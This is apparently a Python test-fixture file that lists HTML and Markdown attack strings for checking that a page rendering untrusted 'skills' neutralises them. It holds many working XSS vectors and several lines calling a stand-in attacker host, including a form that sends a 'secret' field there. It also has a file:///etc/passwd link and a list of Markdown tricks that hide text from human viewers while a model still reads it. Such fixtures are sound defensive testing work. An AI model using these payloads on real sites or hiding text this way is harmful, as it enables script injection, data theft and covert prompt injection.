"""Texts that attack the page that shows them: each would set `window.hit`, ask another host, or lead away, if it worked.

Hidden characters are not among them, because a skill that has any is not read.
"""

from __future__ import annotations

_CALL = "window.hit=1"
_ELSEWHERE = "http://attacker.invalid"

HTML = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT SRC={_ELSEWHERE}/x.js></SCRIPT>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="{_ELSEWHERE}/pixel.png">',
    f"<svg onload={_CALL}></svg>",
    f"<svg><script>{_CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text y="20">here</text></a></svg>',
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{_CALL}">m</maction></math>',
    f'<iframe src="javascript:{_CALL}"></iframe>',
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f'<object data="data:text/html,<script>{_CALL}</script>"></object>',
    f"<embed src={_ELSEWHERE}/x.swf>",
    f'<base href="{_ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url={_ELSEWHERE}">',
    f'<link rel="stylesheet" href="{_ELSEWHERE}/x.css">',
    f"<style>@import url({_ELSEWHERE}/x.css); body {{ display: none }}</style>",
    f'<div style="background:url({_ELSEWHERE}/x.png)">styled</div>',
    f'<form action="{_ELSEWHERE}"><input name="secret"><button>Go</button></form>',
    f"<details open ontoggle={_CALL}>more</details>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src={_ELSEWHERE}/x.mp3 autoplay></audio>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>text</marquee>",
    f"<a href=javascript:{_CALL}>click me</a>",
    f"<template><script>{_CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f"<textarea></textarea><script>{_CALL}</script>",
    f"<!-- --><script>{_CALL}</script><!-- -->",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<xss id=x tabindex=1 onfocus={_CALL}></xss>",
    f"</div></main><script>{_CALL}</script>",
    "<dialog open>fake question</dialog>",
)

MARKDOWN = (
    f"[click me](javascript:{_CALL})",
    f"[click me](JaVaScRiPt:{_CALL})",
    f"[click me](java\tscript:{_CALL})",
    f"[click me]( javascript:{_CALL} )",
    f"[click me](&#106;avascript:{_CALL})",
    f"[click me](&#x6A;&#x61;vascript:{_CALL})",
    f"[click me](javascript&colon;{_CALL})",
    f"[click me](vbscript:{_CALL})",
    f"[click me](data:text/html,<script>{_CALL}</script>)",
    "[click me](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=)",
    "[click me](blob:http://127.0.0.1/x)",
    "[click me](file:///etc/passwd)",
    f'[click me](https://example.org "onmouseover={_CALL}")',
    f"[click me][ref]\n\n[ref]: javascript:{_CALL}",
    f"<javascript:{_CALL}>",
    f"![picture](javascript:{_CALL})",
    f"![picture]({_ELSEWHERE}/pixel.png)",
    f"![picture][pixel]\n\n[pixel]: {_ELSEWHERE}/other.png",
    f"[![picture]({_ELSEWHERE}/nested.png)](javascript:{_CALL})",
    f"`<img src=x onerror={_CALL}>`",
    f"```html\n<img src=x onerror={_CALL}>\n```",
    f'```"><script>{_CALL}</script>\ncode\n```',
    f"| a | b |\n|---|---|\n| <img src=x onerror={_CALL}> | [x](javascript:{_CALL}) |",
    f"# <img src=x onerror={_CALL}>",
    f"- [ ] <img src=x onerror={_CALL}>",
    f"> <script>{_CALL}</script>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"**<b onclick={_CALL}>bold</b>**",
    f"Text with {{{{constructor.constructor('{_CALL}')()}}}} and ${{{_CALL}}}",
)

TEXTS = (*HTML, *MARKDOWN)

HIDDEN = (
    "[the manual](https://unseen.invalid/a)",
    '[the manual](https://example.org "unseen title")',
    "![picture](https://unseen.invalid/b.png)",
    "![picture](x.png 'unseen title')",
    "[the manual](unseen/path)",
    "[the manual][unseen]\n\n[unseen]: https://example.org",
    "[unseen]: https://example.org 'unseen title'",
    "```python unseen instructions\nprint(1)\n```",
    "~~~unseen\n~~~",
    "| a | b |\n|---|---|\n| 1 | 2 | unseen |",
    "- one\n\n  ```text unseen\n  ```",
    "> | a |\n> |---|\n> | 1 | unseen |",
    "<!-- unseen -->",
    "text <!-- unseen --> text",
    "<p title=unseen>text</p>",
    "- [x] done <span unseen>",
    "1. one\n   [a]: /unseen",
)
"""Markdown of which a browser usually does not show the word "unseen", although a model reads it."""
